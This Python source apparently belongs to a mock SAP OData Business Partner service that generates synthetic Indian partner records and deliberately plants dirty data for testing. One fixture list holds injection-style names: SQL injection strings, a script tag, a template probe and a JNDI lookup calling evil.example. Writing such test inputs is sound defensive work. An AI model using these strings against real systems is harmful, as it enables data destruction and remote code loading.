    "বিশ্বাস বিল্ডার্স",
)
_INJECTION: Final = (
    "Robert'); DROP TABLE customers;--",
    "<script>alert(1)</script> Traders",
    "'; DELETE FROM partners WHERE '1'='1",
    "Shah & Sons <b>Hardware</b>",
    '" OR 1=1 -- Enterprises',
    "{{7*7}} Constructions",
    "${jndi:ldap://evil.example/a} Infra",
    "Sai Hardware\tand\nPaints",
)
_GSTIN_CHARS: Final = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
_UPPER: Final = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def is_valid_gstin(value: str | None) -> bool:
    """True for a 15-character GSTIN with a correct check character."""
    if not value or len(value) != 15 or not value.isalnum() or not value[:2].isdigit():
        return False
    return value == value.upper() and gstin_checksum(value[:14]) == value[14]


_slug_cache: dict[tuple[str, int], str] = {}
_NON_SLUG = re.compile(r"[^a-z0-9]+")


def _slug(text: str, limit: int = 20) -> str:
    """Lower-case ASCII letters and digits only, as used in e-mail addresses."""
    key = (text, limit)
    slug = _slug_cache.get(key)
    if slug is None:
        slug = _NON_SLUG.sub("", text.lower())[:limit] or "office"
        if len(_slug_cache) < 50_000:
            _slug_cache[key] = slug
    return slug


def _split_name(full: str) -> tuple[str, str]:
    """SAP splits long organisation names over Name1/Name2 (40 characters each)."""
    if len(full) <= 40:
        return full, ""
    cut = full.rfind(" ", 0, 41)
    cut = cut if cut > 0 else 40
    return full[:cut], full[cut:].strip()[:40]


def partner_id(index: int) -> str:
    """BusinessPartner number of the partner at position ``index`` (0-based)."""
    return str(FIRST_PARTNER_NUMBER + index)


# One weighted pick gives state and city; the first (metro) city of a state gets the largest share.
_CITY_TABLE: Final[list[tuple[str, str, bool, tuple[str, ...], str, str, str, tuple[str, ...]]]] = []
_CITY_CUM: Final[list[float]] = []
for _region, _gst, _weight, _hindi, _surnames, _cities in _STATES:
    _shares = [2.0] + [1.0] * (len(_cities) - 1)
    for _share, (_city, _pin3, _std, _localities) in zip(_shares, _cities, strict=True):
        _CITY_TABLE.append((_region, _gst, _hindi, _surnames, _city, _pin3, _std, _localities))
        _CITY_CUM.append((_CITY_CUM[-1] if _CITY_CUM else 0.0) + _weight * _share / sum(_shares))
_CITY_TOTAL: Final = _CITY_CUM[-1]
_SEGMENT_TOTAL: Final = _SEGMENT_CUM[-1]
# Per-character contributions to the GSTIN checksum at odd (weight 1) and even (weight 2) places.
_GSTIN_ODD: Final = {c: i for i, c in enumerate(_GSTIN_CHARS)}
_GSTIN_EVEN: Final = {c: (2 * i) // 36 + (2 * i) % 36 for i, c in enumerate(_GSTIN_CHARS)}
_UUID_CLEAR: Final = ~((0xF000 << 64) | (0xC000 << 48))
_UUID_SET: Final = (0x4000 << 64) | (0x8000 << 48)
_compact_dates: dict[int, str] = {}
_compact_times: dict[int, str] = {}


_upper_cache: dict[str, str] = {}


def _upper20(text: str) -> str:
    """Search-term form (upper case, 20 characters), shared between partners to save memory."""
    value = _upper_cache.get(text)
    if value is None:
        value = text.upper()[:20]
        if len(_upper_cache) < 50_000:
            _upper_cache[text] = value
    return value


def _uuid4(bits: int) -> str:
    """Random-based UUID string from 128 random bits (same result as ``uuid.UUID(int=..., version=4)``)."""
    h = "%032x" % ((bits & _UUID_CLEAR) | _UUID_SET)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _generated_etag(day_ordinal: int, seconds: int) -> str:
    day = _compact_dates.get(day_ordinal)
    if day is None:
        day = _compact_dates[day_ordinal] = date.fromordinal(day_ordinal).strftime("%Y%m%d")
    hms = _compact_times.get(seconds)
    if hms is None:
        hms = _compact_times[seconds] = f"{seconds // 3600:02d}{seconds // 60 % 60:02d}{seconds % 60:02d}"
    return f"{day}{hms}0000000"


def _defaults(etype: EntityType) -> list[Any]:
    """Initial values SAP reports for unset fields: "" for strings, False for flags, null otherwise."""
    row: list[Any] = []
    for prop in etype.props:
        if prop.edm == "Edm.String":
            row.append("")
        elif prop.edm == "Edm.Boolean":
            row.append(False)
        else:
            row.append(None)
    return row


def _row_builder(
    etype: EntityType, fields: tuple[str, ...], constants: Mapping[str, Any] | None = None
) -> Callable[..., tuple[Any, ...]]:
    """Compile ``build(*values) -> row tuple`` placing ``values`` at ``fields``, defaults elsewhere.

    Generation touches ~200 slots per partner; a compiled list display is several times
    faster than copying a template and assigning slots by name.
    """
    constants = dict(constants or {})
    unknown = (set(fields) | constants.keys()) - etype.index.keys()
    if unknown:
        raise ValueError(f"{etype.name} has no properties {sorted(unknown)}")
    position = {name: i for i, name in enumerate(fields)}
    defaults = _defaults(etype)
    parts = []
    for i, prop in enumerate(etype.props):
        if prop.name in position:
            parts.append(f"v{position[prop.name]}")
        else:
            parts.append(repr(constants.get(prop.name, defaults[i])))
    args = ", ".join(f"v{i}" for i in range(len(fields)))
    namespace: dict[str, Any] = {}
    exec(f"def build({args}):\n    return ({', '.join(parts)},)\n", namespace)  # noqa: S102 - source built from the schema only
    build: Callable[..., tuple[Any, ...]] = namespace["build"]
    return build


_BP_FIELDS: Final = (
    "BusinessPartner",
    "Customer",
    "BusinessPartnerCategory",
    "BusinessPartnerFullName",
    "BusinessPartnerGrouping",
    "BusinessPartnerName",
    "BusinessPartnerUUID",
    "CorrespondenceLanguage",
    "CreatedByUser",
    "CreationDate",
    "CreationTime",
    "FirstName",
    "FormOfAddress",
    "Industry",
    "IsFemale",
    "IsMale",
    "IsNaturalPerson",
    "GenderCodeName",
    "LastChangeDate",
    "LastChangeTime",
    "LastChangedByUser",
    "LastName",
    "LegalForm",
    "OrganizationBPName1",
    "OrganizationBPName2",
    "OrganizationFoundationDate",
    "SearchTerm1",
    "SearchTerm2",
    "BirthDate",
    "BusinessPartnerIsBlocked",
    "ETag",
    "PersonFullName",
    "IsMarkedForArchiving",
    "BusinessPartnerIDByExtSystem",
)
_build_bp: Final = _row_builder(BP_TYPE, _BP_FIELDS, {"Language": "EN"})
_CU_FIELDS: Final = (
    "Customer",
    "CreatedByUser",
    "CreationDate",
    "CustomerAccountGroup",
    "CustomerClassification",
    "CustomerName",
    "BPCustomerName",
    "CustomerFullName",
    "BPCustomerFullName",
    "NFPartnerIsNaturalPerson",
    "OrderIsBlockedForCustomer",
    "DeliveryIsBlocked",
    "BillingIsBlockedForCustomer",
    "DeletionIndicator",
    "Industry",
    "TaxNumber3",
)
_build_customer: Final = _row_builder(CUSTOMER_TYPE, _CU_FIELDS)
_AD_FIELDS: Final = (
    "BusinessPartner",
    "AddressID",
    "ValidityStartDate",
    "AddressUUID",
    "AddressTimeZone",
    "CityName",
    "Country",
    "District",
    "FormOfAddress",
    "FullName",
    "HouseNumber",
    "PostalCode",
    "Region",
    "StreetName",
)
_build_address: Final = _row_builder(ADDRESS_TYPE, _AD_FIELDS, {"ValidityEndDate": _OPEN_END_DTO, "Language": "EN"})
_build_email: Final = _row_builder(
    EMAIL_TYPE, ("AddressID", "OrdinalNumber", "IsDefaultEmailAddress", "EmailAddress", "SearchEmailAddress")
)
_build_phone: Final = _row_builder(
    PHONE_TYPE,
    (
        "AddressID",
        "OrdinalNumber",
        "DestinationLocationCountry",
        "PhoneNumber",
        "InternationalPhoneNumber",
        "PhoneNumberType",
    ),
    {"IsDefaultPhoneNumber": True},
)
_build_tax: Final = _row_builder(TAX_TYPE, ("BusinessPartner", "BPTaxNumber"), {"BPTaxType": "IN3"})

_Row = Any  # a row is a tuple while stored, a list while being edited
_AddressBundle = tuple[_Row, list[_Row], list[_Row], list[_Row]]


@dataclass(slots=True)
class _Partner:
    """One generated partner before it is stored: wire-format rows for every entity set.

    Rows are tuples; :meth:`thaw` turns them into lists for the few partners that get
    dirtied or re-stamped, :meth:`freeze` turns them back.
    """

    bp: _Row
    customer: _Row | None
    taxes: list[_Row]
    addresses: list[_AddressBundle]
    gstin: str | None = None
    dirty: str | None = None

    def thaw(self) -> None:
        """Make every row editable (lists)."""
        self.bp = list(self.bp)
        self.customer = None if self.customer is None else list(self.customer)
        self.taxes = [list(t) for t in self.taxes]
        self.addresses = [
            (list(a), [list(e) for e in mails], [list(p) for p in phones], [list(m) for m in mobiles])
            for a, mails, phones, mobiles in self.addresses
        ]

    def freeze(self) -> None:
        """Turn every row back into a tuple for storage."""
        self.bp = tuple(self.bp)
        self.customer = None if self.customer is None else tuple(self.customer)
        self.taxes = [tuple(t) for t in self.taxes]
        self.addresses = [
            (tuple(a), [tuple(e) for e in mails], [tuple(p) for p in phones], [tuple(m) for m in mobiles])
            for a, mails, phones, mobiles in self.addresses
        ]


_BPX = BP_TYPE.index
_CUX = CUSTOMER_TYPE.index
_ADX = ADDRESS_TYPE.index
_TXX = TAX_TYPE.index
_EMX = EMAIL_TYPE.index
_PHX = PHONE_TYPE.index
_FOREIGN_SURNAMES: Final = ("Khan", "Rahman", "Shrestha", "Perera", "Fernando", "Al Mansoori", "Hossain")
_CLASSES: Final = ("A", "B", "B", "C", "C", "C")
_EMAIL_ROLES: Final = ("info", "sales", "accounts", "purchase")
_DIRTY_CUM: Final = tuple(sum(_DIRTY_WEIGHTS[: i + 1]) for i in range(len(_DIRTY_WEIGHTS)))


def gstin_checksum(first14: str) -> str:
    """GSTIN check character (mod-36 scheme used by the GST network)."""
    total = sum(map(_GSTIN_ODD.__getitem__, first14[0::2])) + sum(map(_GSTIN_EVEN.__getitem__, first14[1::2]))
    return _GSTIN_CHARS[(36 - total % 36) % 36]


class _Generator:
    """Generates partners block by block; partner ``i`` depends only on ``(seed, i)``."""

    def __init__(self, seed: int) -> None:
        self.seed = seed

    def block(self, block_no: int) -> list[_Partner]:
        """All 1024 partners of block ``block_no`` (positions ``block_no*1024`` onwards)."""
        rng = random.Random(self.seed * 1_000_003 + block_no)
        # Block 0 carries every dirty kind twice within its first 200 partners, so even a
        # small sandbox shows each kind.
        showcase: dict[int, str] = {}
        if block_no == 0:
            slots = sorted(rng.sample(range(20, 200), 2 * len(DIRTY_KINDS)))
            order = list(DIRTY_KINDS) * 2
            rng.shuffle(order)
            showcase = dict(zip(slots, order, strict=True))
        partners: list[_Partner] = []
        donors: list[int] = []
        start = block_no * _BLOCK
        for offset in range(_BLOCK):
            partner = self._partner(rng, start + offset)
            kind = showcase.get(offset)
            if kind is None and rng.random() < _DIRTY_RATE:
                kind = DIRTY_KINDS[bisect_right(_DIRTY_CUM, rng.random() * _DIRTY_CUM[-1])]
            if kind is not None:
                partner.thaw()
                if kind != "duplicate_gstin":
                    kind = self._make_dirty(rng, partner, kind)
                elif partner.gstin is None or not donors:
                    kind = self._make_dirty(rng, partner, "invalid_phone")
                else:
                    donor = partners[donors.pop(int(rng.random() * len(donors)))]
                    donor.thaw()
                    self._share_gstin(partner, donor)
                    donor.freeze()
                partner.freeze()
            partner.dirty = kind
            if kind is None and partner.gstin is not None:
                donors.append(offset)
            partners.append(partner)
        return partners

    # -- one clean partner -----------------------------------------------------------------

    def _partner(self, rng: random.Random, index: int) -> _Partner:
        r = rng.random
        bp_id = str(FIRST_PARTNER_NUMBER + index)
        foreign = r() < 0.015
        person = r() < 0.15
        segment = _SEGMENTS[bisect_right(_SEGMENT_CUM, r() * _SEGMENT_TOTAL)]

        # Last change within the 3 years before the anchor, skewed towards recent days.
        change_ord = _ANCHOR_ORDINAL - int(1095 * r() ** 1.6)
        if r() < 0.35 and change_ord > _GO_LIVE_ORDINAL:
            creation_ord = _GO_LIVE_ORDINAL
            created_by = "MIGRATION"
        else:
            creation_ord = _FIRST_CREATION_ORDINAL + int((change_ord - _FIRST_CREATION_ORDINAL) * r())
            created_by = _USERS[int(r() * 7)]
        creation_secs = 9000 + int(r() * 39600)
        change_secs = 10800 + int(r() * 61200)
        if creation_ord == change_ord and change_secs < creation_secs:
            change_secs = min(86399, creation_secs + 60 + int(r() * 3600))
        creation_date = wire_day(creation_ord)

        if foreign:
            country, cities = _FOREIGN[int(r() * 4)]
            city, region, postal, dial, mob_prefix, mob_digits = cities[int(r() * len(cities))]
            surname = _FOREIGN_SURNAMES[int(r() * 7)]
            std = locality = gst_code = ""
            hindi_belt = False
        else:
            country, dial, mob_prefix, mob_digits = "IN", "+91", "", 10
            region, gst_code, hindi_belt, surnames, city, pin3, std, localities = _CITY_TABLE[
                bisect_right(_CITY_CUM, r() * _CITY_TOTAL)
            ]
            postal = f"{pin3}{1 + int(r() * 98):03d}"
            locality = localities[int(r() * len(localities))]
            surname = surnames[int(r() * len(surnames))]
        blocked = r() < 0.02
        archived = r() < 0.01

        first = last = person_full = gender = natural = ""
        is_female = is_male = False
        birth = foundation = None
        name1 = name2 = legal = ""
        if person:
            is_female = r() < 0.2
            is_male = not is_female
            first = _FIRST_FEMALE[int(r() * 20)] if is_female else _FIRST_MALE[int(r() * 38)]
            last = surname
            full = person_full = f"{first} {surname}"
            natural = "X"
            gender = "1" if is_female else "2"
            form = "0001" if is_female else "0002"
            industry = "CONSTRUCT"
            search1 = _upper20(surname)
            if r() < 0.3:
                birth = wire_day(_BIRTH_ORDINAL + int(r() * 14000))
            account_group, cust_industry, stem = "ZIND", "CONS", surname
        else:
            form = "0003"
            legals = segment[6]
            legal = legals[int(r() * len(legals))]
            if segment[0] == "institution":
                full = _INSTITUTIONS[int(r() * 6)].format(city=city)
                stem = city
            else:
                style = r()
                if style < 0.3:
                    stem = surname
                elif style < 0.6:
                    stem = _AUSPICIOUS[int(r() * len(_AUSPICIOUS))]
                elif style < 0.85:
                    stem = _GENERIC[int(r() * len(_GENERIC))]
                elif style < 0.95:
                    stem = f"{_FIRST_MALE[int(r() * 38)]} {surname}"
                else:
                    stem = f"{_INITIALS[int(r() * 8)]} {surname}"
                cores = segment[5]
                full = f"{stem} {cores[int(r() * len(cores))]}{_LEGAL_SUFFIX[legal]}"[:81]
            name1, name2 = _split_name(full) if len(full) > 40 else (full, "")
            industry = segment[3]
            search1 = _upper20(stem)
            if r() < 0.2:
                foundation = wire_day(_FOUNDATION_ORDINAL + int(r() * 16000))
            account_group = "ZEXP" if foreign else segment[2]
            cust_industry = segment[4]
        has_customer = r() < 0.985
        bp = _build_bp(
            bp_id,
            bp_id if has_customer else "",
            "1" if person else "2",
            full,
            "Z002" if foreign else ("Z003" if person else "Z001"),
            full,
            _uuid4(rng.getrandbits(128)),
            "HI" if (hindi_belt and r() < 0.45) or r() < 0.03 else "EN",
            created_by,
            creation_date,
            wire_time(creation_secs),
            first,
            form,
            industry,
            is_female,
            is_male,
            natural,
            gender,
            wire_day(change_ord),
            wire_time(change_secs),
            _USERS[int(r() * 7)],
            last,
            legal,
            name1,
            name2,
            foundation,
            search1,
            _upper20(city),
            birth,
            blocked,
            _generated_etag(change_ord, change_secs),
            person_full,
            archived,
            f"DMS-{100000 + index:06d}" if r() < 0.6 else "",
        )

        # GSTIN: organisations are almost always registered, individuals rarely.
        gstin: str | None = None
        taxes: list[_Row] = []
        if not foreign and r() < (0.3 if person else 0.95):
            pan_type = (
                "P" if person or legal == "01" else ("F" if legal in ("02", "03") else ("G" if legal == "06" else "C"))
            )
            initial = stem[0].upper() if stem[:1].isascii() and stem[:1].isalpha() else "A"
            up = _UPPER
            gst_body = (
                f"{gst_code}{up[int(r() * 26)]}{up[int(r() * 26)]}{up[int(r() * 26)]}{pan_type}{initial}"
                f"{1 + int(r() * 9998):04d}{up[int(r() * 26)]}{'1' if r() < 0.9 else '2'}Z"
            )
            gstin = gst_body + gstin_checksum(gst_body)
            taxes.append(_build_tax(bp_id, gstin))

        customer = None
        if has_customer:
            customer = _build_customer(
                bp_id,
                created_by,
                creation_date,
                account_group,
                _CLASSES[int(r() * 6)],
                full[:80],
                full,
                f"{full} {city}"[:220],
                full,
                natural,
                "01" if blocked or r() < 0.02 else "",
                "01" if r() < 0.01 else "",
                "01" if r() < 0.01 else "",
                archived,
                cust_industry,
                gstin or "",
            )

        # Addresses with e-mail, landline and mobile numbers.
        addresses: list[_AddressBundle] = []
        slug = _slug(f"{first}{surname}" if person else stem)
        validity = wire_dto_day(creation_ord)
        time_zone = "INDIA" if not foreign else ""
        for slot in range(2 if r() < 0.15 else 1):
            address_id = str(30_001 + index * 2 + slot)
            street = _STREETS[int(r() * len(_STREETS))]
            addr = _build_address(
                bp_id,
                address_id,
                validity,
                _uuid4(rng.getrandbits(128)),
                time_zone,
                city,
                country,
                locality,
                form,
                full[:80],
                f"{_HOUSE_PREFIX[int(r() * 7)]}{1 + int(r() * 250)}"[:10],
                postal,
                region,
                street if slot == 0 else f"Godown, {street}",
            )
            emails: list[_Row] = []
            phones: list[_Row] = []
            mobiles: list[_Row] = []
            if slot == 0:
                n_mail = 2 if r() < 0.1 else (1 if r() < 0.92 else 0)
                for n in range(n_mail):
                    if person:
                        local = f"{slug}{int(r() * 90) + 10}" if n else slug
                        mail = f"{local}@{_FREE_MAIL[int(r() * 6)]}"
                    elif r() < 0.45:
                        mail = f"{_EMAIL_ROLES[int(r() * 4)]}@{slug}{_CORP_TLD[int(r() * 3)]}"
                    elif r() < 0.3:
                        mail = f"{slug}.{_slug(city, 8)}@{_FREE_MAIL[int(r() * 6)]}"
                    else:
                        mail = f"{slug}@{_FREE_MAIL[int(r() * 6)]}"
                    emails.append(_build_email(address_id, str(n + 1), n == 0, mail, mail.upper()[:20]))
                ordinal = 1
                if not person and not foreign and r() < 0.5:
                    local_len = 10 - len(std)
                    number = f"{2 + int(r() * 7)}{int(r() * 10 ** (local_len - 1)):0{local_len - 1}d}"
                    phones.append(_build_phone(address_id, "1", "IN", f"0{std} {number}", f"+91{std}{number}", "1"))
                    ordinal = 2
                if r() < 0.95:
                    mobiles.append(_mobile_row(address_id, ordinal, country, dial, mob_prefix, mob_digits, r))
            addresses.append((addr, emails, phones, mobiles))
        return _Partner(bp, customer, taxes, addresses, gstin)

    # -- dirt --------------------------------------------------------------------------------

    @staticmethod
    def _share_gstin(partner: _Partner, donor: _Partner) -> None:
        gstin = donor.gstin or ""
        partner.gstin = gstin
        partner.taxes[0][_TXX["BPTaxNumber"]] = gstin
        if partner.customer is not None:
            partner.customer[_CUX["TaxNumber3"]] = gstin
        donor.dirty = "duplicate_gstin"

    def _make_dirty(self, rng: random.Random, partner: _Partner, kind: str) -> str:
        """Apply one kind of dirt; returns the kind actually applied (some need an address)."""
        r = rng.random
        bp, customer = partner.bp, partner.customer
        main = partner.addresses[0] if partner.addresses else None
        if main is None and kind in ("invalid_email", "invalid_phone", "unknown_country", "invalid_postal_code"):
            kind = "missing_name"
        if kind == "invalid_gstin" and not partner.taxes:
            kind = "invalid_phone" if main is not None else "missing_name"
        if kind == "missing_name":
            empty: str | None = None if r() < 0.5 else ""
            for name in (
                "BusinessPartnerFullName",
                "BusinessPartnerName",
                "OrganizationBPName1",
                "OrganizationBPName2",
                "FirstName",
                "LastName",
                "PersonFullName",
                "SearchTerm1",
            ):
                bp[_BPX[name]] = empty
            if customer is not None:
                for name in ("CustomerName", "BPCustomerName", "CustomerFullName", "BPCustomerFullName"):
                    customer[_CUX[name]] = empty
            for bundle in partner.addresses:
                bundle[0][_ADX["FullName"]] = empty
        elif kind == "invalid_email" and main is not None:
            bad = _BAD_EMAILS[int(r() * len(_BAD_EMAILS))]
            if main[1]:
                main[1][0][_EMX["EmailAddress"]] = bad
                main[1][0][_EMX["SearchEmailAddress"]] = bad.upper()[:20]
            else:
                main[1].append(list(_build_email(main[0][_ADX["AddressID"]], "1", True, bad, bad.upper()[:20])))
        elif kind == "invalid_phone" and main is not None:
            if not main[3]:
                main[3].append(list(_mobile_row(main[0][_ADX["AddressID"]], len(main[2]) + 1, "IN", "+91", "", 10, r)))
            bad = _BAD_PHONES[int(r() * len(_BAD_PHONES))]
            main[3][0][_PHX["PhoneNumber"]] = bad
            main[3][0][_PHX["InternationalPhoneNumber"]] = bad
        elif kind == "unknown_country" and main is not None:
            main[0][_ADX["Country"]] = _BAD_COUNTRIES[int(r() * len(_BAD_COUNTRIES))]
        elif kind == "invalid_postal_code" and main is not None:
            main[0][_ADX["PostalCode"]] = ("4110", "ABC123", "5600 01", "0", "1234567")[int(r() * 5)]
        elif kind == "invalid_gstin":
            good = partner.gstin or ""
            bad = (good[:14] + ("0" if good[14:] != "0" else "1"), good[:13], good.lower(), "URP", good[2:] + "ZZ")[
                int(r() * 5)
            ]
            partner.taxes[0][_TXX["BPTaxNumber"]] = bad
            if customer is not None:
                customer[_CUX["TaxNumber3"]] = bad[:18]
        elif kind in ("non_ascii_name", "injection_like_name", "untrimmed_name"):
            current = bp[_BPX["BusinessPartnerFullName"]] or ""
            if kind == "non_ascii_name":
                name = _NON_ASCII[int(r() * len(_NON_ASCII))]
            elif kind == "injection_like_name":
                name = _INJECTION[int(r() * len(_INJECTION))]
            else:
                name = ("  " + current + " ", current.replace(" ", "  "), current + "   ", " " + current.lower())[
                    int(r() * 4)
                ]
            _rename(partner.bp, partner.customer, [bundle[0] for bundle in partner.addresses], name)
        else:
            # mostly_null: key, category, change stamps and ETag survive; everything else is null.
            keep = {
                "BusinessPartner",
                "Customer",
                "LastChangeDate",
                "LastChangeTime",
                "ETag",
                "BusinessPartnerCategory",
            }
            for i, prop in enumerate(BP_TYPE.props):
                if prop.name not in keep:
                    bp[i] = None
            if customer is not None:
                for i, prop in enumerate(CUSTOMER_TYPE.props):
                    if prop.name != "Customer":
                        customer[i] = None
            partner.addresses.clear()
            partner.taxes.clear()
            partner.gstin = None
            kind = "mostly_null"
        return kind


def _rename(bp: list[Any], customer: list[Any] | None, addresses: Iterable[list[Any]], name: str) -> None:
    """Set a partner's name everywhere SAP derives it from (BP, customer, address)."""
    bp[_BPX["BusinessPartnerFullName"]] = name[:81]
    bp[_BPX["BusinessPartnerName"]] = name[:81]
    if bp[_BPX["BusinessPartnerCategory"]] == "1":
        bp[_BPX["PersonFullName"]] = name[:80]
    else:
        bp[_BPX["OrganizationBPName1"]], bp[_BPX["OrganizationBPName2"]] = _split_name(name)
    bp[_BPX["SearchTerm1"]] = name.strip().upper()[:20]
    if customer is not None:
        customer[_CUX["CustomerName"]] = name[:80]
        customer[_CUX["BPCustomerName"]] = name[:81]
        customer[_CUX["CustomerFullName"]] = name[:220]
        customer[_CUX["BPCustomerFullName"]] = name[:220]
    for addr in addresses:
        addr[_ADX["FullName"]] = name[:80]


def _mobile_row(
    address_id: str, ordinal: int, country: str, dial: str, prefix: str, digits: int, r: Callable[[], float]
) -> tuple[Any, ...]:
    """A mobile number entry (PhoneNumberType 3) in ``A_AddressPhoneNumber``."""
    if country == "IN" or not prefix:
        number = f"{'9876'[int(r() * 4)]}{int(r() * 10**9):09d}"
    else:
        rest = digits - len(prefix)
        number = f"{prefix}{int(r() * 10**rest):0{rest}d}"
    return _build_phone(
        address_id, str(ordinal), country if len(country) == 2 else "IN", number, f"{dial}{number}", "3"
    )


# ============================================================================================
# Storage: one table per entity set, rows as tuples of wire values
# ============================================================================================


class _Table:
    """Rows of one entity set (wire-format tuples), key lookup, navigation links, typed columns."""

    def __init__(self, etype: EntityType) -> None:
        self.etype = etype
        self.rows: list[tuple[Any, ...]] = []
        #: nav name -> per-row target index (single, -1 for none) or a sequence of indices (many)
        self.links: dict[str, list[Any]] = {nav.name: [] for nav in etype.navs}
        self._link_defaults: dict[str, Any] = {nav.name: () if nav.many else -1 for nav in etype.navs}
        self._by_key: dict[Any, int] | None = None
        self._typed: dict[str, list[Any]] = {}
        positions = [etype.index[k] for k in etype.keys]
        self._key_of: Callable[[tuple[Any, ...]], Any] = (
            itemgetter(positions[0]) if len(positions) == 1 else itemgetter(*positions)
        )
        if len(positions) == 1:
            template = f"{etype.set_name}('{{}}')"
        else:
            template = f"{etype.set_name}(" + ",".join(f"{k}='{{}}'" for k in etype.keys) + ")"
        fmt = template.format
        key_of = self._key_of
        single = len(positions) == 1
        # Key values are generated digits (never user input), so no URI escaping is needed.
        self.key_path: Callable[[tuple[Any, ...]], str] = (
            (lambda row: fmt(key_of(row))) if single else (lambda row: fmt(*key_of(row)))
        )

    def invalidate(self) -> None:
        """Forget derived lookups after rows were added in bulk."""
        self._by_key = None
        self._typed.clear()

    def append(self, row: tuple[Any, ...]) -> int:
        """Add a row; returns its index."""
        index = len(self.rows)
        self.rows.append(row)
        for name, links in self.links.items():
            links.append(self._link_defaults[name])
        if self._by_key is not None:
            self._by_key[self._key_of(row)] = index
        self._typed.clear()
        return index

    def replace(self, index: int, row: tuple[Any, ...]) -> None:
        """Swap a row for an updated version (keys never change)."""
        self.rows[index] = row
        self._typed.clear()

    def find(self, key: tuple[str, ...]) -> int | None:
        """Row index for a key tuple (in the entity type's key order)."""
        if self._by_key is None:
            key_of = self._key_of
            self._by_key = {key_of(row): i for i, row in enumerate(self.rows)}
        return self._by_key.get(key[0] if len(key) == 1 else key)

    def typed_column(self, name: str) -> list[Any]:
        """Values of property ``name`` in comparable form (epoch ms, seconds, lower-case GUIDs)."""
        column = self._typed.get(name)
        if column is None:
            prop = self.etype.prop[name]
            values = list(map(itemgetter(self.etype.index[name]), self.rows))
            if prop.edm in ("Edm.DateTime", "Edm.DateTimeOffset"):
                column = [_typed_or_none(parse_wire_datetime, v) for v in values]
            elif prop.edm == "Edm.Time":
                column = [_typed_or_none(parse_wire_time, v) for v in values]
            elif prop.edm == "Edm.Guid":
                column = [v.lower() if isinstance(v, str) else None for v in values]
            else:
                # Values of the wrong type (planted by set_raw_field) compare as null.
                kind = bool if prop.edm == "Edm.Boolean" else str
                column = [v if type(v) is kind else None for v in values]
            self._typed[name] = column
        return column


def _typed_or_none(parse: Callable[[str], int], value: Any) -> int | None:
    """Comparable form of a wire value; raw values planted by ``set_raw_field`` compare as null."""
    if not isinstance(value, str):
        return None
    try:
        return parse(value)
    except ValueError:
        return None


# ============================================================================================
# OData errors
# ============================================================================================

_CODE_PARAMTYPE = "005056A509B11EE1BB8AF4A65EC3CA20"
_CODE_BAD_REQUEST = "/IWBEP/CM_MGW_RT/022"
_CODE_NOT_FOUND = "/IWBEP/CM_MGW_RT/020"
_CODE_METHOD = "/IWBEP/CM_MGW_RT/021"
_CODE_PRECONDITION = "/IWBEP/CM_MGW_RT/054"
_CODE_NOT_ACCEPTABLE = "/IWBEP/CM_MGW_RT/031"
_CODE_SERVER = "/IWFND/CM_BEC/026"
_SAP_TRANSACTION = (
    'For backend administrators: use ADT feed reader "SAP Gateway Error Log" or run transaction '
    "/IWFND/ERROR_LOG on SAP Gateway hub system and search for entries with the timestamp above "
    "for more details"
)
_SAP_NOTE = "See SAP Note 1797736 for error analysis (https://service.sap.com/sap/support/notes/1797736)"


class ODataError(Exception):
    """An OData error answer (status, SAP-style code and message)."""

    def __init__(self, status: int, code: str, message: str, headers: Iterable[tuple[str, str]] = ()) -> None:
        super().__init__(message)
        self.status = status
        self.code = code
        self.message = message
        self.headers = list(headers)


def _bad_request(message: str) -> ODataError:
    return ODataError(400, _CODE_BAD_REQUEST, message)


def _param_type_error(function: str, position: int) -> ODataError:
    return ODataError(
        400, _CODE_PARAMTYPE, f"Invalid parametertype used at function '{function}' (Position: {position})"
    )


# ============================================================================================
# $filter: tokenizer, parser, type checker and compiler to per-row predicates
# ============================================================================================

_TOKEN_RE = re.compile(
    r"""(?P<ws>\s+)
    |(?P<typed>(?:datetimeoffset|datetime|guid|time)'(?:[^']|'')*')
    |(?P<string>'(?:[^']|'')*')
    |(?P<number>-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?[mMdDfFlL]?)
    |(?P<ident>[A-Za-z_][A-Za-z0-9_]*(?:/[A-Za-z_][A-Za-z0-9_]*)*)
    |(?P<open>\()
    |(?P<close>\))
    |(?P<comma>,)""",
    re.VERBOSE,
)
_COMPARISONS = frozenset({"eq", "ne", "gt", "ge", "lt", "le"})
_NUMERIC = frozenset({"Edm.Int32", "Edm.Int64", "Edm.Decimal", "Edm.Double"})
_BOOL_FUNCS = {"substringof": 2, "startswith": 2, "endswith": 2}
_STRING_FUNCS = {"tolower": 1, "toupper": 1, "trim": 1}
_STRING_METHODS: dict[str, Callable[[str], str]] = {"tolower": str.lower, "toupper": str.upper, "trim": str.strip}
_DATE_PART_FUNCS = {"year", "month", "day", "hour", "minute", "second"}


@dataclass
class _Tok:
    kind: str
    text: str
    pos: int  # 1-based position in the $filter text, as SAP reports it


@dataclass
class _Node:
    kind: str  # lit | member | call | not | bin
    pos: int
    value: Any = None
    edm: str = ""
    name: str = ""
    args: list[_Node] = field(default_factory=list)


def _tokenize(text: str) -> list[_Tok]:
    tokens: list[_Tok] = []
    pos = 0
    while pos < len(text):
        match = _TOKEN_RE.match(text, pos)
        if match is None:
            raise _bad_request(f"Invalid token detected at position {pos + 1} in $filter")
        kind = match.lastgroup or ""
        if kind != "ws":
            tokens.append(_Tok(kind, match.group(), pos + 1))
        pos = match.end()
    return tokens


def _parse_datetime_literal(body: str, with_offset: bool, pos: int) -> int:
    text = body.strip()
    if with_offset:
        text = text.replace("Z", "+00:00")
    if "." in text:
        # Python parses at most 6 fractional digits; OData allows 7.
        head, _, tail = text.partition(".")
        digits = "".join(ch for ch in tail if ch.isdigit())
        rest = tail[len(digits) :]
        text = f"{head}.{digits[:6].ljust(6, '0')}{rest}"
    try:
        value = datetime.fromisoformat(text)
    except ValueError:
        raise _bad_request(f"Invalid literal '{body}' at position {pos} in $filter") from None
    if with_offset and value.tzinfo is None:
        raise _bad_request(f"datetimeoffset literal without offset at position {pos} in $filter")
    if not with_offset and value.tzinfo is not None:
        raise _bad_request(f"datetime literal must not carry an offset (position {pos}); use datetimeoffset")
    if value.tzinfo is None:
        value = value.replace(tzinfo=UTC)
    return _ms_of(value)


def _literal(tok: _Tok) -> _Node:
    if tok.kind == "string":
        return _Node("lit", tok.pos, tok.text[1:-1].replace("''", "'"), "Edm.String")
    if tok.kind == "number":
        text = tok.text
